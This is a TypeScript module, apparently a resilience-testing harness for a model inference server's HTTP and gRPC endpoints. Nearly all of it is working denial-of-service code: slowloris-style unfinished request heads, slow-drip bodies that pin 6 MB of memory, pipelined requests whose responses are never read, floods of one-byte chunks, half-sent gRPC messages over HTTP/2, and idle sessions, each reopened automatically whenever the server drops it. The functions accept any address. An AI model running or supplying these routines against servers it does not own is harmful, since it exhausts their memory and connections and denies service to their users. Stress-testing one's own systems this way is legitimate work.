import { type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';

/** Something that callers do to a server for as long as it is not stopped. */
export interface Attack {
  stop(): void;
}

const ROW = Array.from({ length: 30 }, (_, i) => i / 4);
const MEGABYTE = 1024 * 1024;
const PATH = '/v2/models/tree/infer';

interface Address {
  readonly host: string;
  readonly port: number;
}

/** @param url `http://host:port`, or `host:port` as gRPC has it */
export function addressOf(url: string): Address {
  const { hostname, port } = new URL(url.includes('://') ? url : `http://${url}`);
  return { host: hostname, port: Number(port) };
}

/**
 * Keeps so many sockets open, each begun again when the server ends it.
 *
 * @param begin is called with every new one
 */
function keepOpen(url: string, count: number, begin: (socket: Socket) => void): Attack {
  const open = new Set<Socket>();
  let stopped = false;
  const again = (): void => {
    if (stopped) return;
    const socket = connect({ ...addressOf(url), allowHalfOpen: false }, () => begin(socket));
    open.add(socket);
    socket.on('error', () => undefined);
    socket.resume();
    socket.on('close', () => {
      open.delete(socket);
      setTimeout(again, 50);
    });
  };
  for (let i = 0; i < count; i++) again();
  return {
    stop: () => {
      stopped = true;
      for (const socket of open) socket.destroy();
    },
  };
}

const post = (length: string): string =>
  `POST ${PATH} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n${length}\r\n\r\n`;

/** Heads that promise 6 MB, and nothing after them. */
export const promises = (url: string, count: number): Attack =>
  keepOpen(url, count, (socket) => socket.write(post(`content-length: ${6 * MEGABYTE}`)));

/** Connections on which half of a head comes. */
export const halfHeads = (url: string, count: number): Attack =>
  keepOpen(url, count, (socket) => socket.write('POST / HTTP/1.1\r\nho'));

/** Nearly all of 6 MB at once, and then a byte now and then: memory is held for as long as the server waits. */
export const nearlyWhole = (url: string, count: number): Attack =>
  keepOpen(url, count, (socket) => {
    socket.write(post(`content-length: ${6 * MEGABYTE}`));
    socket.write(Buffer.alloc(6 * MEGABYTE - 10_000, 0x20));
    const drip = setInterval(() => socket.write(' '), 1_000);
    socket.on('close', () => clearInterval(drip));
  });

/** Answers that are asked for again and again, and never read. */
export const unreadAnswers = (url: string, count: number): Attack =>
  keepOpen(url, count, (socket) => {
    socket.pause();
    const body = JSON.stringify({ inputs: [{ name: 'features', shape: [1, 30], datatype: 'FP32', data: ROW }] });
    const ask = `${post(`content-length: ${body.length}`)}${body}`;
    for (let i = 0; i < 100; i++) socket.write(ask);
  });

const CHUNKS_A_WRITE = 10_000;
const TINY = Buffer.from('1\r\n \r\n'.repeat(CHUNKS_A_WRITE));

/** Bodies of chunks of one byte each, one after the other. */
export const tinyChunks = (url: string, count: number, chunks: number): Attack =>
  keepOpen(url, count, (socket) => {
    socket.write(post('transfer-encoding: chunked'));
    let left = chunks;
    const more = (): void => {
      while (left > 0) {
        left -= CHUNKS_A_WRITE;
        if (!socket.write(TINY)) {
          socket.once('drain', more);
          return;
        }
      }
      socket.write('0\r\n\r\n');
      socket.end();
    };
    more();
  });

const CALL = {
  ':method': 'POST',
  ':path': '/inference.GRPCInferenceService/ModelInfer',
  'content-type': 'application/grpc',
  te: 'trailers',
};

/** How calls over gRPC ended. */
export interface StreamAttack extends Attack {
  /** Calls that have ended, by their status or the code of the reset. */
  readonly ended: ReadonlyMap<string, number>;
  /** Calls that are open. */
  readonly open: number;
}

/**
 * Calls on one connection whose messages are begun and not finished.
 *
 * @param bytes that are sent of each
 */
export function unfinishedMessages(address: string, count: number, bytes: number): StreamAttack {
  const ended = new Map<string, number>();
  const session: ClientHttp2Session = connectHttp2(`http://${address}`, {
    // It sends all at once, whatever it is told, and keeps what has not been taken.
    peerMaxConcurrentStreams: 2 ** 31,
    maxSessionMemory: 10_000,
  });
  session.on('error', () => undefined);
  const streams = new Set<ClientHttp2Stream>();
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(6 * MEGABYTE, 1);
  for (let i = 0; i < count; i++) {
    const stream = session.request(CALL);
    streams.add(stream);
    let status: string | undefined;
    stream.on('response', (headers) => {
      status = headers['grpc-status'] as string | undefined;
    });
    stream.on('error', () => undefined);
    stream.on('close', () => {
      streams.delete(stream);
      const how = status ?? `reset ${stream.rstCode}`;
      ended.set(how, (ended.get(how) ?? 0) + 1);
    });
    stream.resume();
    stream.write(prefix);
    stream.write(Buffer.alloc(bytes));
  }
  return {
    ended,
    get open() {
      return streams.size;
    },
    stop: () => session.destroy(),
  };
}

/** Connections of HTTP/2 on which nothing is asked. */
export function idleSessions(address: string, count: number): Attack & { readonly open: number } {
  const sessions = new Set<ClientHttp2Session>();
  for (let i = 0; i < count; i++) {
    const session = connectHttp2(`http://${address}`);
    sessions.add(session);
    session.on('error', () => undefined);
    session.on('close', () => sessions.delete(session));
  }
  return {
    get open() {
      return sessions.size;
    },
    stop: () => {
      for (const session of sessions) session.destroy();
    },
  };
}
